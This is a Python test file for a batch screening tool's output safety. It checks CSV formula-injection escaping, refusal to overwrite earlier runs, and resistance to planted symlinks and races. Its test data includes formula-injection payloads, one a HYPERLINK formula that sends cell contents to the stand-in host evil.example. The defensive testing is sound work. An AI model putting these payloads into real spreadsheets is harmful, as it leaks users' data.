"""Issue 13 §5: CSV cells a spreadsheet would evaluate, planted links, earlier runs' files."""

from __future__ import annotations

import csv
import json
from pathlib import Path
from typing import Any

import pytest

from screener.batch import outputs, safe_io
from screener.batch.safe_io import csv_cell, csv_cell_sql, csv_text
from screener.cli.main import main

from .conftest import batch_cli as cli
from .conftest import variant, write_jsonl

HOSTILE = [
    '=HYPERLINK("http://evil.example/?x="&A1,"click")',
    "@SUM(1+1)",
    "+1+1",
    "-2+3",
    "\tx",
    "\rx",
    "\uff1dSUM(1)",  # full-width equals sign
]
HARMLESS = ["p-1", "a=b", "plain", " =leading space", "x'y"]
# a text that starts with the escape itself gets one more, so that reading back is exact
ESCAPE_LIKE = ["'quoted", "'=1+1", "''"]


def patients(ids: list[str]) -> list[dict[str, Any]]:
    out = []
    for i, pid in enumerate(ids):
        p = variant(i)
        p["patient_id"] = pid
        out.append(p)
    return out


# --------------------------------------------------------------------------- formula injection


@pytest.mark.parametrize("value", HOSTILE)
def test_a_cell_a_spreadsheet_would_evaluate_gets_a_leading_quote(value: str) -> None:
    assert csv_cell(value) == "'" + value


@pytest.mark.parametrize("value", [*HARMLESS, "", 3, -3, 2.5, None])
def test_other_cells_are_unchanged(value: Any) -> None:
    assert csv_cell(value) == value


@pytest.mark.parametrize("value", [*HOSTILE, *HARMLESS, *ESCAPE_LIKE, ""])
def test_a_cell_reads_back_as_the_text_it_was_made_from(value: str) -> None:
    assert csv_text(csv_cell(value)) == value
    assert (csv_cell(value) != value) == value.startswith((*safe_io.FORMULA_START, "'"))


def test_the_sql_twin_neutralises_exactly_the_same_cells() -> None:
    duckdb = pytest.importorskip("duckdb")
    values = [*HOSTILE, *HARMLESS, *ESCAPE_LIKE, "", "\n1", "\x00a", "-", "@"]
    con = duckdb.connect()
    got = [
        con.execute(f"SELECT {csv_cell_sql('v')} FROM (SELECT ?::VARCHAR AS v)", [v]).fetchone()[0]
        for v in values
    ]
    assert got == [csv_cell(v) for v in values]
    assert con.execute(f"SELECT {csv_cell_sql('NULL::VARCHAR')}").fetchone()[0] is None


def test_batch_csv_neutralises_hostile_ids_and_jsonl_keeps_them(tmp_path: Path) -> None:
    jsonl = write_jsonl(tmp_path / "a.jsonl", patients(HOSTILE + HARMLESS))
    assert main(cli(tmp_path / "out.csv", jsonl)) == 0
    with (tmp_path / "out.csv").open(encoding="utf-8", newline="") as handle:
        rows = list(csv.DictReader(handle))
    assert [r["patient_id"] for r in rows] == ["'" + v for v in HOSTILE] + HARMLESS
    assert main(cli(tmp_path / "out.jsonl", jsonl)) == 0
    lines = (tmp_path / "out.jsonl").read_text(encoding="utf-8").splitlines()
    assert [json.loads(line)["patient_id"] for line in lines] == HOSTILE + HARMLESS


def test_the_vectorized_csv_neutralises_the_same_cells_as_the_engine(tmp_path: Path) -> None:
    pytest.importorskip("duckdb")
    jsonl = write_jsonl(tmp_path / "a.jsonl", patients(HOSTILE + HARMLESS))
    tables = tmp_path / "reg"
    assert main(["convert", "--to", "tables", str(tables), str(jsonl)]) == 0
    assert main(cli(tmp_path / "engine.csv", jsonl)) == 0
    assert main([*cli(tmp_path / "fast.csv", tables), "--engine", "vectorized"]) == 0

    def cells(path: Path) -> list[tuple[str, ...]]:
        with path.open(encoding="utf-8", newline="") as handle:
            return [(r["patient_id"], r["decision"], r["failing"]) for r in csv.DictReader(handle)]

    engine, fast = cells(tmp_path / "engine.csv"), cells(tmp_path / "fast.csv")
    assert fast == engine and engine[0][0] == "'" + HOSTILE[0]


# --------------------------------------------------------------------------- earlier runs' files


def test_batch_replaces_an_earlier_output_only_with_overwrite(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    jsonl = write_jsonl(tmp_path / "a.jsonl", patients(["a", "b"]))
    out, summary = tmp_path / "out.csv", tmp_path / "funnel.html"
    assert main(cli(out, jsonl)) == 0
    first = out.read_bytes()
    jsonl2 = write_jsonl(tmp_path / "b.jsonl", patients(["c"]))
    capsys.readouterr()
    assert main(cli(out, jsonl2)) == 2
    err = capsys.readouterr().err
    assert f"{out}: exists" in err and "--overwrite" in err and out.read_bytes() == first
    summary.write_text("an earlier funnel", encoding="utf-8")
    assert main(cli(tmp_path / "new.csv", jsonl2, extra=("--summary", str(summary)))) == 2
    assert summary.read_text(encoding="utf-8") == "an earlier funnel"
    assert not (tmp_path / "new.csv").exists() and not outputs.partial_path(tmp_path / "new.csv").exists()
    assert main(cli(out, jsonl2, extra=("--overwrite", "--summary", str(summary)))) == 0
    assert out.read_text(encoding="utf-8").splitlines()[1].startswith("c,")
    assert summary.read_text(encoding="utf-8").startswith("<!DOCTYPE html") or "<html" in summary.read_text()


def test_an_interrupted_run_is_not_dropped_without_overwrite(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    jsonl = write_jsonl(tmp_path / "a.jsonl", patients(["a", "b", "c"]))
    out = tmp_path / "out.csv"
    assert main([*cli(out, jsonl), "--stop-after", "1"]) == 130
    capsys.readouterr()
    assert main(cli(out, jsonl)) == 2
    assert "interrupted run" in capsys.readouterr().err
    assert main([*cli(out, jsonl), "--overwrite"]) == 0
    assert "starting again" in capsys.readouterr().err


# --------------------------------------------------------------------------- planted links


@pytest.mark.parametrize("planted", ["partial", "checkpoint", "out", "errors", "summary"])
def test_batch_never_writes_through_a_planted_link(tmp_path: Path, planted: str) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious", encoding="utf-8")
    jsonl = write_jsonl(tmp_path / "a.jsonl", patients(["a", "b"]), extra_lines={1: "not json"})
    out, summary = tmp_path / "out.csv", tmp_path / "funnel.svg"
    link = {
        "partial": outputs.partial_path(out),
        "checkpoint": outputs.checkpoint_path(out),
        "out": out,
        "errors": outputs.default_errors_path(out),
        "summary": summary,
    }[planted]
    link.symlink_to(victim)
    argv = cli(out, jsonl, extra=("--summary", str(summary)))
    assert main(argv) == 2  # refused: something is in the way
    assert victim.read_text(encoding="utf-8") == "precious" and link.is_symlink()
    assert main([*argv, "--overwrite"]) == 1  # one bad record
    assert victim.read_text(encoding="utf-8") == "precious"
    assert out.is_file() and not out.is_symlink() and summary.read_text(encoding="utf-8").startswith("<svg")
    assert not link.is_symlink()


def test_resume_refuses_a_partial_file_swapped_for_a_link(
    tmp_path: Path, capsys: pytest.CaptureFixture[str]
) -> None:
    victim = tmp_path / "victim.txt"
    victim.write_text("precious" * 100, encoding="utf-8")
    jsonl = write_jsonl(tmp_path / "a.jsonl", patients(["a", "b", "c"]))
    out = tmp_path / "out.csv"
    assert main([*cli(out, jsonl), "--stop-after", "1"]) == 130
    partial = outputs.partial_path(out)
    partial.unlink()
    partial.symlink_to(victim)
    capsys.readouterr()
    assert main([*cli(out, jsonl), "--resume"]) == 2
    assert "symbolic link" in capsys.readouterr().err
    assert victim.read_text(encoding="utf-8") == "precious" * 100


def test_create_new_refuses_a_link_planted_after_the_check(tmp_path: Path, monkeypatch) -> None:
    victim = tmp_path / "victim"
    victim.write_text("keep", encoding="utf-8")
    target = tmp_path / "new"
    real_unlink = Path.unlink

    def unlink_then_plant(self: Path, missing_ok: bool = False) -> None:
        real_unlink(self, missing_ok)
        if self == target:
            target.symlink_to(victim)  # an attacker is quicker than us

    target.write_text("old", encoding="utf-8")
    monkeypatch.setattr(Path, "unlink", unlink_then_plant)
    with pytest.raises(safe_io.OutputError, match="appeared while"):
        safe_io.create_new(target)
    assert victim.read_text(encoding="utf-8") == "keep"


def test_overwrite_leaves_no_earlier_errors_file_beside_new_rows(tmp_path: Path) -> None:
    bad = write_jsonl(tmp_path / "bad.jsonl", patients(["a"]), extra_lines={1: "not json"})
    good = write_jsonl(tmp_path / "good.jsonl", patients(["b"]))
    out = tmp_path / "out.csv"
    assert main(cli(out, bad)) == 1 and outputs.default_errors_path(out).exists()
    assert main([*cli(out, good), "--overwrite"]) == 0
    assert not outputs.default_errors_path(out).exists()
